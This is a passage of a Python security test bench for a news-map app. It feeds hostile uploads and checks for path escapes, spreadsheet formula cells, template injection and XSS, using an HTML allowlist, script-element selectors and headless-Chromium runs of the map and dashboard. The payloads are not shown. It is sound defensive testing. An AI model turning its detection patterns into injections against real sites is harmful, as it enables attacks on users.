    name = case.upload_name or Path(case.hostile).name
    files = [
        [BESIDE[0], str(corpus / BESIDE[0])],
        [name.replace("{case}", str(up)), str(corpus / case.hostile)],
        [BESIDE[1], str(corpus / BESIDE[1])],
    ]
    from geo.ingest.articles import article_id

    good = [article_id(GOOD_TEXTS[n]) for n in (SEED, *BESIDE)]
    return {"dir": str(up), "files": files, "good": good}


class UploadWorker:
    """One process that loads the model once and runs upload jobs; restarted after a hang."""

    def __init__(self) -> None:
        self.process: subprocess.Popen | None = None

    def _start(self) -> subprocess.Popen:
        return subprocess.Popen(
            [sys.executable, str(Path(__file__).resolve()), "--upload-worker"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            cwd=ROOT,
            start_new_session=True,
        )

    def run(self, job: dict[str, object], timeout: float = TIMEOUT_S) -> Outcome:
        if self.process is None or self.process.poll() is not None:
            self.process = self._start()
            if not self._wait_ready():
                self.stop()
                return Outcome("crash", "the upload worker did not start")
        assert self.process.stdin and self.process.stdout
        start = time.monotonic()
        self.process.stdin.write((json.dumps(job) + "\n").encode())
        self.process.stdin.flush()
        ready, _, _ = select.select([self.process.stdout], [], [], timeout)
        if not ready:
            self.stop()
            return Outcome("hang", seconds=time.monotonic() - start)
        line = self.process.stdout.readline()
        if not line:
            code = self.process.wait()
            self.process = None
            return Outcome("crash", f"the upload worker died (exit {code})")
        outcome = Outcome(**json.loads(line))
        outcome.seconds = time.monotonic() - start
        return outcome

    def _wait_ready(self) -> bool:
        assert self.process and self.process.stdout
        ready, _, _ = select.select([self.process.stdout], [], [], 300)
        return bool(ready) and self.process.stdout.readline().strip() == b"ready"

    def stop(self) -> None:
        if self.process is not None:
            if self.process.poll() is None:
                os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait()
            self.process = None


def upload_worker() -> int:
    """The dashboard's upload and render, one JSON job a line on stdin, one result a line."""
    results_out = os.fdopen(os.dup(sys.stdout.fileno()), "w", buffering=1)
    os.dup2(sys.stderr.fileno(), sys.stdout.fileno())  # library prints go to stderr
    from geo.app import page

    gazetteer, nlp = page.load_pipeline_resources()
    results_out.write("ready\n")
    for line in sys.stdin:
        job = json.loads(line)
        try:
            outcome = _upload_and_render(job, gazetteer, nlp)
        except Exception as error:  # noqa: BLE001 (a crash is what the bench reports)
            outcome = Outcome("crash", f"{type(error).__name__}: {error}")
            traceback.print_exc()
        results_out.write(json.dumps(asdict(outcome)) + "\n")
    return 0


def _files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file() or p.is_symlink()}


def _upload_and_render(job: dict, gazetteer, nlp) -> Outcome:
    """What sidebar_uploads and ensure_store do, then what the page renders."""
    from geo import pipeline, store
    from geo.app import mapview, page, store_view
    from geo.app.uploads import note_left_off, save_upload

    up = Path(job["dir"])
    where = page.app_paths(
        ROOT, {"NEWSMAP_DATA_DIR": str(up / "data"), "NEWSMAP_SEEDS_DIR": str(up / "seeds")}
    )
    before = _files_under(up)
    results = []
    for name, source in job["files"]:
        data = Path(source).read_bytes()
        results.append(save_upload(name, data, where.uploads))
    hostile = results[1]
    escaped = [p for p in _files_under(up) - before if where.data not in p.parents]
    escaped += [r.saved for r in results if r.saved and r.saved.parent != where.uploads]
    build_error = None
    try:
        summary = pipeline.build_store(
            page.corpus_paths(where), where.data, nlp=nlp, gazetteer=gazetteer
        )
    except (store.StoreError, OSError) as error:  # the page shows these as an error
        build_error = str(error)
    else:
        hostile = note_left_off(results, summary.skipped)[1]
    script = _markdown_problems(mapview.markdown_text(hostile.message))
    ids: set[str] = set()
    if build_error is None:
        con = page.open_event_store(str(where.data))
        store_view.filter_options(con)
        view = page.filter_view(con, ())
        script += render_problems(con, view)
        ids = set(store.load_articles(where.data)["article_id"].astype(str))
    lost = len(set(job["good"]) - ids)
    if build_error is not None:
        return Outcome(
            "refused", f"build: {build_error}", lost=lost, script=script, escape=len(escaped)
        )
    status = "ok" if hostile.ok and not hostile.left_off else "refused"
    message = "" if status == "ok" else hostile.message.removeprefix(f"{hostile.name}: ")
    return Outcome(status, message, lost=lost, script=script, escape=len(escaped))


# --------------------------------------------------------------------------- render checks

SAFE_TAGS = {"style", "div", "h4", "span", "p", "strong", "mark", "a", "b", "ul", "li"}
SAFE_ATTRIBUTES = {"class", "href", "target", "rel"}


class _MarkupAudit(html.parser.HTMLParser):
    """Counts elements and attributes in rendered HTML that could run a script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in SAFE_ATTRIBUTES:
                self.problems.append(f"{tag}[{name}]")
            elif name == "href" and not (value or "").lower().startswith(("http://", "https://")):
                self.problems.append(f"href={value!r}")

    handle_startendtag = handle_starttag


def markup_problems(fragment: str) -> list[str]:
    audit = _MarkupAudit()
    audit.feed(fragment)
    audit.close()
    return audit.problems


def _markdown_problems(text: str) -> int:
    """Markdown that could become a link or HTML in a Streamlit alert."""
    import re

    return len(re.findall(r"(?<!\\)[\[<]", text))


def formula_cells(data: bytes) -> list[str]:
    """CSV cells a spreadsheet would run as formulas (numbers are not formulas)."""
    from geo.app.tables import FORMULA_START

    found = []
    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
        for cell in row:
            if cell[:1] in FORMULA_START:
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def render_problems(con, view) -> int:
    """Markup that could run, or formula cells, in what the page renders for `view` (a
    page.FilterView of the store's connection `con`)."""
    from geo.app import detail_panel, mapview, store_downloads, store_view
    from geo.app.frame_index import safe_url

    problems: list[str] = []
    markers = view.layer.markers
    script = view.layer.script
    if "<" in script:
        problems.append("'<' in the map's layer script")
    for marker in markers:
        problems += markup_problems(marker.tooltip)
        panel = detail_panel.detail_html(
            marker.name, store_view.events_at_place(con, view.event_filter, marker.key)
        )
        problems += markup_problems(panel)
    for url in view.table.get("url", []):
        if isinstance(url, str) and safe_url(url) != url:
            problems.append(f"table link {url!r}")
    from geo.app import foliummap
    from geo.app.assets import asset_urls

    base = foliummap.build_base_map(mapview.marker_bounds(markers), asset_urls("static"))
    foliummap.build_place_layer(markers).add_to(base)
    rendered = base.get_root().render()  # folium's own render (Map.save, st_folium)
    problems += [f"template ran: {mark}" for mark in SSTI_MARKS if mark in rendered]
    csv = store_downloads.csv_bytes(con, view.event_filter)
    problems += [f"formula {c!r}" for c in formula_cells(csv)]
    store_downloads.geojson_bytes(con, view.event_filter)
    if problems:
        print("render problems:", problems[:10], file=sys.stderr)
    return len(problems)


# --------------------------------------------------------------------------- chromium


BROWSER_CHECK_JS = """async () => {
  const map = Object.values(window).find(v => v instanceof L.Map);
  const clusters = [];
  map.eachLayer(l => { if (l instanceof L.MarkerClusterGroup) { clusters.push(l); } });
  const shown = [];
  const unsafe = ":is(img, script, svg, iframe, object, embed)";
  for (const cluster of clusters) {
    for (const m of cluster.getLayers()) {
      cluster.removeLayer(m);
      m.addTo(map);
      m.openTooltip();
      m.openPopup();
      await new Promise(r => setTimeout(r, 50));
      const pop = document.querySelector(".leaflet-popup-content");
      const tip = document.querySelector(".leaflet-tooltip");
      shown.push([pop ? pop.innerText : "", tip ? tip.innerText : "",
        document.querySelectorAll(
          `.leaflet-popup-pane ${unsafe}, .leaflet-tooltip-pane ${unsafe}`).length]);
    }
  }
  return {markers: shown.length, shown: shown};
}"""


def browser_check(root: Path, cases: list[Case]) -> tuple[Outcome, str]:
    """The XSS inputs' store, its folium map and detail panels, loaded in Chromium."""
    if not CHROMIUM.exists():
        return Outcome("n/a", "chromium is not installed"), ""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        return Outcome("n/a", "playwright is not installed"), ""
    from geo.app import detail_panel, foliummap, frame_index, mapview
    from geo.app.assets import asset_urls, install_static_assets
    from geo.store import load_event_places

    corpus = root / "xss-corpus"
    for case in cases:
        folder = corpus / case.name
        folder.mkdir(parents=True)
        for name, content in case.files.items():
            (folder / name).write_bytes(content)  # type: ignore[arg-type]
    data = root / "xss-data"
    run = run_geo(["build", "--quiet", "--data-dir", str(data), str(corpus)], root)
    if run.returncode not in (0, 1) or crashed(run):
        return Outcome("crash", f"build of the XSS corpus: {run.err_text()[-300:]}"), ""
    index = frame_index.build_index(load_event_places(data))
    assets = install_static_assets(root / "static")
    page_html = root / "xss-map.html"
    foliummap.build_map(index, asset_urls(assets.as_uri()), tiles=None).save(str(page_html))
    saved = page_html.read_text(encoding="utf-8")
    ran = [f"template ran: {mark}" for mark in SSTI_MARKS if mark in saved]
    markers = mapview.place_markers(index)
    panels = [
        detail_panel.detail_html(m.name, mapview.events_at_place(index, None, m.key))
        for m in markers
    ]
    executed: list[str] = list(ran)
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
        context = browser.new_context()
        context.route(
            "**/*",
            lambda r: (
                r.continue_()
                if r.request.url.startswith(("file:", "data:", "about:"))
                else r.abort()
            ),
        )
        page = context.new_page()
        page.on("dialog", lambda d: (executed.append(f"dialog {d.message}"), d.dismiss()))
        page.goto(page_html.as_uri())
        page.wait_for_function(
            "() => window.L && Object.values(window).some(v => v instanceof L.Map)"
        )
        result = page.evaluate(BROWSER_CHECK_JS)
        page.wait_for_timeout(1000)
        texts = " ".join(a + " " + b for a, b, _ in result["shown"])
        executed += [f"{n} elements in popup/tooltip" for _, _, n in result["shown"] if n]
        executed += _ran(page, "map")
        for panel in panels:
            page.set_content(f"<html><head><title>panel</title></head><body>{panel}</body></html>")
            page.wait_for_timeout(200)
            texts += " " + page.inner_text("body")
            executed += _ran(page, "detail panel", title="panel")
        browser.close()
    dashboard = dashboard_check(data, [m.name for m in markers])
    executed += dashboard[0]
    shown_as_text = "onerror" in texts and "<script>" in texts
    note = (
        f"folium map: {result['markers']} markers (tooltips and popups opened), "
        f"{len(panels)} detail panels; dashboard: {dashboard[1]}; "
        f"payloads shown as text: {'yes' if shown_as_text else 'NO'}"
    )
    if executed:
        return Outcome("script", "; ".join(executed[:5]), script=len(executed)), note
    if not result["markers"] or not shown_as_text:
        return Outcome("refused", "the payloads did not reach the map"), note
    return Outcome("ok"), note


def _free_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def dashboard_check(data: Path, place_names: list[str]) -> tuple[list[str], str]:
    """`streamlit run dashboard.py` on the XSS store, in Chromium: every marker's popup in
    the map's iframe, the events table, and the detail panel of every place picked.
    Returns (what ran, what was checked)."""
    import urllib.request

    from playwright.sync_api import sync_playwright

    port = _free_port()
    env = dict(os.environ, NEWSMAP_DATA_DIR=str(data))
    env.pop("NEWSMAP_STATIC_DIR", None)
    log = open(data.parent / "streamlit.log", "wb")  # noqa: SIM115
    server = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "streamlit",
            "run",
            str(ROOT / "dashboard.py"),
            "--server.port",
            str(port),
            "--server.address",
            "127.0.0.1",
        ],
        cwd=ROOT,
        env=env,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    url = f"http://127.0.0.1:{port}"
    executed: list[str] = []
    checked = "not run"
    try:
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline:
            try:
                with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2):
                    break
            except OSError:
                time.sleep(0.5)
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
            context = browser.new_context(viewport={"width": 1500, "height": 1200})
            context.route(
                "**/*",
                lambda r: (
                    r.continue_()
                    if r.request.url.startswith((url, "data:", "blob:", "about:"))
                    else r.abort()
                ),
            )
            page = context.new_page()
            page.on("dialog", lambda d: (executed.append(f"dialog {d.message}"), d.dismiss()))
            page.goto(url)
            page.get_by_test_id("stMetricValue").first.wait_for(timeout=300_000)
            _idle(page)
            frame = _map_frame(page)
            popups = frame.evaluate(BROWSER_CHECK_JS) if frame else {"shown": []}
            executed += [f"{n} elements in a dashboard popup" for *_, n in popups["shown"] if n]
            table = page.get_by_test_id("stDataFrame")
            rows = table.first.inner_text() if table.count() else ""
            picked, panel_text = 0, ""
            for name in place_names:
                box = page.get_by_test_id("stSelectbox").filter(has_text="Place")
                box.locator("input").click()
                box.locator("input").fill(name)
                page.keyboard.press("Enter")
                _idle(page)
                if page.locator(".nm-detail").count():
                    picked += 1
                    panel_text += page.locator(".nm-detail").first.inner_text()
            executed += _ran(page, "dashboard")
            if frame:
                executed += _ran_in(frame, "dashboard map")
            browser.close()
        popup_text = " ".join(text for text, *_ in popups["shown"])
        checked = (
            f"{len(popups['shown'])} popups ({_as_text(popup_text)}), the events table "
            f"({_as_text(rows) if 'onerror' in rows else 'drawn on a canvas'}), {picked} of "
            f"{len(place_names)} detail panels ({_as_text(panel_text)})"
        )
    except Exception as error:  # noqa: BLE001 (reported, the rest of the bench stands)
        checked = f"failed: {type(error).__name__}: {str(error)[:200]}"
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(server.pid, signal.SIGKILL)
            server.wait()
        log.close()
    return executed, checked


def _as_text(shown: str) -> str:
    return "payloads shown as text" if "onerror" in shown and "<script>" in shown else "NO PAYLOAD"


def _idle(page) -> None:
    page.wait_for_timeout(500)
    page.wait_for_function(
        "() => !document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=120_000
    )
    page.wait_for_timeout(500)


def _map_frame(page):
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        # From the iframe elements: Playwright's frame.url can stay about:blank on a busy
        # machine after the map's iframe has loaded (tests/e2e's _map_frames).
        for element in page.query_selector_all('iframe[src*="st_folium"]'):
            frame = element.content_frame()
            if frame is not None and frame.evaluate(
                "() => !!(window.map && window.feature_group && window.feature_group.length)"
            ):
                return frame
        time.sleep(0.3)
    return None


def _ran_in(frame, where: str) -> list[str]:
    value = frame.evaluate("() => window.__xss")
    return [f"{where}: window.__xss={value!r}"] if value is not None else []


def _ran(page, where: str, title: str | None = None) -> list[str]:
    found = []
    for frame in page.frames:
        value = frame.evaluate("() => window.__xss")
        if value is not None:
            found.append(f"{where}: window.__xss={value!r}")
    current = page.title()
    if current == "XSS" or (title is not None and current != title):
        found.append(f"{where}: document.title={current!r}")
    return found


# --------------------------------------------------------------------------- main


PATHS = ("build", "geoparse", "upload", "events")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--quick", action="store_true", help="skip the 100 MB and 1M-row inputs")
    parser.add_argument("--only", nargs="*", default=None, help="run only these cases")
    parser.add_argument("--keep", action="store_true", help="keep the temporary folder")
    parser.add_argument("--no-browser", action="store_true", help="skip the Chromium check")
    parser.add_argument("--json", help="write every outcome to this file")
    parser.add_argument("--upload-worker", action="store_true", help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.upload_worker:
        return upload_worker()

    cases = [c for c in build_cases() if not (args.quick and c.big)]
    if args.only:
        cases = [c for c in cases if c.name in args.only]
    root = Path(tempfile.mkdtemp(prefix="newsmap-hostile-"))
    print(f"{len(cases)} hostile inputs{' (--quick)' if args.quick else ''}", flush=True)
    outside = write_outside(root)
    worker = UploadWorker()
    table: list[tuple[str, dict[str, Outcome]]] = []
    try:
        for number, case in enumerate(cases, 1):
            case_dir = root / "cases" / f"{number:02d}"
            started = time.monotonic()
            corpus = write_case(case, case_dir, outside)
            outcomes = {"build": build_outcome(case, case_dir, corpus)}
            outcomes["geoparse"] = stream_outcome("geoparse", case, case_dir, corpus)
            job = upload_job(case, case_dir, corpus)
            outcomes["upload"] = (
                worker.run(job) if job else Outcome("n/a", "no bytes a browser could send")
            )
            outcomes["events"] = stream_outcome("events", case, case_dir, corpus)
            table.append((case.name, outcomes))
            took = time.monotonic() - started
            print(
                f"[{number}/{len(cases)}] {case.name} ({took:.0f} s)", file=sys.stderr, flush=True
            )
            if case.big:
                shutil.rmtree(case_dir / "corpus", ignore_errors=True)
        browser = None
        if not args.no_browser:
            browser = browser_check(root, [c for c in cases if c.xss])
    finally:
        worker.stop()
        if args.keep:
            print(f"inputs and outputs kept in {root}", file=sys.stderr)
        else:
            for path in root.rglob("*"):
                if not path.is_symlink() and path.exists():
                    path.chmod(0o700)
            shutil.rmtree(root, ignore_errors=True)
    print_table(table, browser)
    if args.json:
        Path(args.json).write_text(
            json.dumps({name: {k: asdict(v) for k, v in o.items()} for name, o in table}, indent=1)
        )
    totals = count(table, browser)
    return 1 if any(totals[k] for k in ("crash", "hang", "script", "lost")) else 0


def count(table, browser) -> dict[str, int]:
    totals = dict.fromkeys(("crash", "hang", "script", "lost", "leak", "escape"), 0)
    outcomes = [o for _, row in table for o in row.values()]
    if browser is not None:
        outcomes.append(browser[0])
    for o in outcomes:
        totals["crash"] += o.status == "crash"
        totals["hang"] += o.status == "hang"
        totals["script"] += o.script
        totals["lost"] += o.lost
        totals["leak"] += o.leak
        totals["escape"] += o.escape
    return totals


def print_table(table, browser) -> None:
    width = max(len(name) for name, _ in table) if table else 10
    print(f"\n{'input':<{width}}  " + "  ".join(f"{p:<44}" for p in PATHS))
    for name, row in table:
        print(f"{name:<{width}}  " + "  ".join(f"{row[p].cell():<44}" for p in PATHS))
    if browser is not None:
        outcome, note = browser
        print(
            f"\nchromium (XSS store: map tooltips and popups, detail panels): "
            f"{outcome.cell(200)}{' — ' + note if note else ''}"
        )
    totals = count(table, browser)
    runs = sum(1 for _, row in table for o in row.values() if o.status != "n/a")
    print(
        f"\n{len(table)} inputs, {runs} runs: crash {totals['crash']}, hang {totals['hang']}, "
        f"script executed {totals['script']}, articles lost {totals['lost']}"
        f" (outside files read into a store {totals['leak']}, uploads written outside the "
        f"uploads folder {totals['escape']})"
    )


if __name__ == "__main__":
    sys.exit(main())
